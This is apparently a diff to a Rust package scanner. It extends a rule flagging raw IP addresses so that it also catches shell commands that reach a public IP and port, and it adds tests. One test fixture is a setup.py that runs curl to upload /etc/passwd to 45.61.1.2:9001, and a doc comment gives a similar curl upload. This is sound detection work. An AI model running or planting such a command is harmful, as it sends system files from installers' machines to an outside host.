@@ -12,7 +12,25 @@ use std::net::Ipv4Addr;
 pub(crate) const RULE: Rule =
     Rule { id: "SA-013", name: "raw IP address URL", kind: Kind::Threat, behaviour: Behaviour::Downloader, weight: 4 };
 
+/// A public `a.b.c.d:port` word of a command line (`curl -F a=@f 198.18.7.9:8080`).
+fn address_word(line: &str) -> Option<String> {
+    line.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '@' | '/')).find_map(|w| {
+        let (host, port) = w.split_once(':')?;
+        let ip = host.parse::<Ipv4Addr>().ok().filter(|ip| public(*ip))?;
+        (!port.is_empty() && port.bytes().take_while(u8::is_ascii_digit).count() > 0).then(|| format!("{ip}:{port}"))
+    })
+}
+
 pub(crate) fn check(ctx: &Ctx<'_>, out: &mut Vec<Hit>) {
+    let commands = ctx.facts.calls_to(super::SPAWN).filter_map(|c| c.first.as_deref().map(|f| (f, c.line)));
+    let commands =
+        commands.chain(ctx.facts.strings.iter().filter(|_| super::is_script(ctx.file)).map(|(s, n)| (s.as_str(), *n)));
+    for (command, line) in commands {
+        if let Some(address) = address_word(command) {
+            out.push(Hit::new(&RULE, line, format!("a command reaches a raw IP address: {address}")).naming(address));
+            return;
+        }
+    }
     for (s, line) in &ctx.facts.strings {
         for scheme in ["http://", "https://", "tcp://", "ftp://"] {
             let mut rest = s.as_str();
@@ -65,6 +83,10 @@ mod tests {
     #[test]
     fn fires_on_public_addresses() {
         assert!(fired("a.py", "u = 'http://45.61.1.2:8080/x'\n", LIBRARY).contains(&"SA-013"));
+        assert!(
+            fired("setup.py", "import os\nos.system('curl -F a=@/etc/passwd 45.61.1.2:9001')\n", LIBRARY)
+                .contains(&"SA-013")
+        );
     }
 
     #[test]
@@ -78,5 +100,9 @@ mod tests {
             .contains(&"SA-013")
         );
         assert!(!fired("a.js", "const dns = '8.8.8.8'", LIBRARY).contains(&"SA-013"));
+        assert!(
+            !fired("setup.py", "import os\nos.system('ping -c 1 8.8.8.8')\n", LIBRARY).contains(&"SA-013"),
+            "no port"
+        );
     }
 }
